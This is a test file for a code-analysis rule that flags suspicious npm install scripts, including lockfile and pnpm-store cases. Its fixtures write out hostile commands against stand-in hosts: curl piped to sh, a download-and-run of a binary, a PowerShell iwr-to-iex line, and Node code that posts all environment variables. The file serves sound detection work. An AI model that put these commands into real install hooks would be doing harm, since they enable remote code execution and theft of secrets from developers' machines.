import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { relativeUri } from '../../../../server/src/core/read/text/paths/uri.ts';
import { expectMarks, type OpenWorkspace, openWorkspace, ROOT } from '../../../workspace.ts';

const RULE = 'install-script-suspicious';
const EVIL = "require('child_process').exec('curl -s https://x.example.test/i.sh | sh')";

const shown = (workspace: OpenWorkspace) =>
  workspace.findings(RULE).map(({ severity, message, related = [] }) => {
    const places = related.map(({ uri, span }) => `${relativeUri(ROOT, uri)}:${span?.start}`);
    return `${severity}: ${message} [${places}]`;
  });

/** Returns the findings of a project whose only script is `postinstall`. */
const own = async (postinstall: string, files: Readonly<Record<string, string>>, more: object = {}) =>
  shown(
    await openWorkspace(
      `-- package.json --\n${JSON.stringify({ name: 'shop', scripts: { postinstall, ...more } })}\n${Object.entries(
        files,
      )
        .map(([path, text]) => `-- ${path} --\n${text}\n`)
        .join('')}`,
    ),
  );

describe('files that own scripts start', () => {
  test('the finding is at the script, with the place in the file', () =>
    expectMarks(`-- package.json --
{
  "scripts": {
    "postinstall": "node tools/setup.js"
                   ^^^^^^^^^^^^^^^^^^^^^ install-script-suspicious: "postinstall" downloads and runs remote code: curl … | sh, in tools/setup.js:2. Remove it, or review exactly what it does.
  }
}
-- tools/setup.js --
'use strict';
${EVIL};
`));

  const FOUND = (path: string, at = 30) => [
    `error: "postinstall" downloads and runs remote code: curl … | sh, in ${path}:1. Remove it, or review exactly what it does. [${path}:${at}]`,
  ];

  test('however they are named', async () => {
    assert.deepEqual(await own('node tools/setup', { 'tools/setup.js': EVIL }), FOUND('tools/setup.js'));
    assert.deepEqual(await own('node ./tools', { 'tools/index.js': EVIL }), FOUND('tools/index.js'));
    assert.deepEqual(
      await own('cd tools && node setup.cjs', { 'tools/setup.cjs': EVIL }),
      FOUND('tools/setup.cjs'),
    );
    assert.deepEqual(await own(`node -e "require('./a')"`, { 'a.js': EVIL }), FOUND('a.js'));
    assert.deepEqual(await own('husky; npx tsx a.ts', { 'a.ts': EVIL }), FOUND('a.ts'));
    const main = { 'tools/package.json': '{ "main": "x.js" }', 'tools/x.js': EVIL };
    assert.deepEqual(await own('node tools', main), FOUND('tools/x.js'));
    const shell = await own('sh ./a.sh', { 'a.sh': 'curl -s https://x.example.test/i.sh | sh' });
    assert.match(shell.join(), /runs remote code: curl … \| sh, in a\.sh:1\..*\[a\.sh:0\]$/);
  });

  test('by another script, which has the finding', async () => {
    const found = await own('npm run fetch', { 'a.js': EVIL }, { fetch: 'node a.js' });
    assert.match(found.join(), /^error: "fetch" downloads and runs remote code: curl … \| sh, in a\.js:1\./);
    assert.deepEqual(await own('node b.js', { 'a.js': EVIL, 'b.js': '' }, { start: 'node a.js' }), []);
  });

  test('what they load and start, one level deep', async () => {
    const load = "require('./lib/fetch')";
    assert.deepEqual(await own('node a.js', { 'a.js': load, 'lib/fetch.js': EVIL }), FOUND('lib/fetch.js'));
    const deep = { 'a.js': load, 'lib/fetch.js': "require('../b')", 'b.js': EVIL };
    assert.deepEqual(await own('node a.js', deep), []);
    const preinstall = {
      'preinstall.js': "const { exec } = require('child_process'); exec('/bin/bash preinstall.sh');",
      'preinstall.sh': 'curl http://203.0.113.7/x -o x\nchmod +x x\n./x &\n',
    };
    assert.match((await own('node preinstall.js', preinstall)).join(), /in preinstall\.sh:1\./);
    const spawned = {
      'a.js': "require('child_process').spawn('cmd.exe', ['/c', 'install.bat'])",
      'install.bat': '@echo off\npowershell -c "iwr https://x.example.test/i.ps1 | iex"\n',
    };
    assert.match((await own('node a.js', spawned)).join(), /in install\.bat:2\./);
  });

  test('nothing outside of the project, and nothing of ordinary set-up', async () => {
    assert.deepEqual(await own('node ../a.js && node /a.js', { 'a.js': '' }), []);
    const code = "require('child_process').execSync('git config core.hooksPath .githooks')";
    assert.deepEqual(await own('node a.js', { 'a.js': code }), []);
  });

  test('an edit of the script is read again', async () => {
    const workspace = await openWorkspace(
      `-- package.json --\n{ "scripts": { "postinstall": "node b.js" } }\n-- a.js --\n${EVIL}\n-- b.js --\n\n`,
    );
    assert.deepEqual(workspace.findings(RULE), []);
    const uri = workspace.uri('package.json');
    workspace.session.setOverlay(uri, '{ "scripts": { "postinstall": "node a.js" } }');
    const changed = new Promise<void>((resolve) => void workspace.session.onDidChange(resolve));
    await workspace.session.ensureProject(uri);
    workspace.session.readBeside();
    await changed;
    assert.equal(workspace.findings(RULE).length, 1);
  });
});

test('the files of a project are read up to a size', async () => {
  const filler = `/* ${'x'.repeat(15_000_000)} */`;
  const files = { 'a.js': filler, 'b.js': filler, 'c.js': filler, 'd.js': EVIL };
  assert.deepEqual(await own('node a.js && node b.js && node c.js && node d.js', files), []);
  const small = await own('node a.js && node d.js', { 'a.js': filler, 'd.js': EVIL });
  assert.equal(small.length, 1);
});

describe('files of installed packages', () => {
  const LOCKED = `-- package-lock.json --
{
  "name": "shop",
  "lockfileVersion": 3,
  "packages": {
    "": { "name": "shop", "dependencies": { "native": "^1.0.0" } },
    "node_modules/native": { "version": "1.0.0", "dependencies": { "deep": "1.0.0" } },
    "node_modules/native/node_modules/deep": { "version": "1.0.0", "hasInstallScript": true }
  }
}
`.replace('"version": "1.0.0", "dep', '"version": "1.0.0", "hasInstallScript": true, "dep');
  const MANIFEST = '{\n  "name": "shop",\n  "dependencies": {\n    "native": "^1.0.0"\n  }\n}\n';
  const installed = (folder: string, name: string, postinstall: string, code: string) =>
    `-- ${folder}/package.json --\n${JSON.stringify({ name, version: '1.0.0', scripts: { postinstall } })}\n-- ${folder}/install.js --\n${code}\n`;
  const SENDS = "require('https').request('https://x.example.test').end(JSON.stringify(process.env))";

  test('at the declaration, and in the lockfile for a deeper one', () =>
    expectMarks(
      `-- package.json --
{
  "name": "shop",
  "dependencies": {
    "native": "^1.0.0"
    ^^^^^^^^ install-script-suspicious: native 1.0.0 sends data of this machine over the network: all environment variables, in install.js:1, started by its "postinstall" script. Deny the script, or use another version.
  }
}
-- package-lock.json --
{
  "name": "shop",
  "lockfileVersion": 3,
  "packages": {
    "": { "name": "shop", "dependencies": { "native": "^1.0.0" } },
    "node_modules/native": { "version": "1.0.0", "hasInstallScript": true, "dependencies": { "deep": "1.0.0" } },
    "node_modules/native/node_modules/deep": { "version": "1.0.0", "hasInstallScript": true }
    ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-script-suspicious: deep 1.0.0 downloads and runs remote code: curl … | sh, in package.json:1, started by its "postinstall" script. Deny the script, or use another version.
  }
}
${installed('node_modules/native', 'native', 'node install.js', SENDS)}${installed('node_modules/native/node_modules/deep', 'deep', 'curl https://x.example.test/i | sh', '')}`,
    ));

  test('silent if denied, and for another installed version', async () => {
    const denied = MANIFEST.replace('\n}\n', ',\n  "allowScripts": { "native": false, "deep": false }\n}\n');
    const files = installed('node_modules/native', 'native', 'node install.js', SENDS);
    const findings = async (manifest: string, rest: string) =>
      shown(await openWorkspace(`-- package.json --\n${manifest}${LOCKED}${rest}`));
    assert.equal((await findings(MANIFEST, files)).length, 1);
    assert.deepEqual(await findings(denied, files), []);
    assert.deepEqual(await findings(MANIFEST, files.replace('"version":"1.0.0"', '"version":"1.0.1"')), []);
  });

  test('in the store of pnpm, for packages that the project approves', async () => {
    const store = 'node_modules/.pnpm/native@1.0.0/node_modules/native';
    const workspace = (allowed: string) =>
      openWorkspace(`-- package.json --
${MANIFEST}-- pnpm-workspace.yaml --
${allowed}
-- pnpm-lock.yaml --
lockfileVersion: '9.0'
importers:
  .:
    dependencies:
      native:
        specifier: ^1.0.0
        version: 1.0.0
packages:
  native@1.0.0:
    resolution: {integrity: sha512-aaaa}
snapshots:
  native@1.0.0: {}
${installed(store, 'native', 'npm run go', SENDS).replace('"postinstall":', '"go":"node install.js","postinstall":')}`);
    assert.match(
      shown(await workspace('allowBuilds:\n  native: true')).join(),
      /all environment variables, in install\.js:1, started by its "go" script.*\.pnpm\/native@1\.0\.0\/node_modules\/native\/install\.js:/,
    );
    assert.deepEqual(shown(await workspace('minimumReleaseAge: 1440')), []);
  });
});
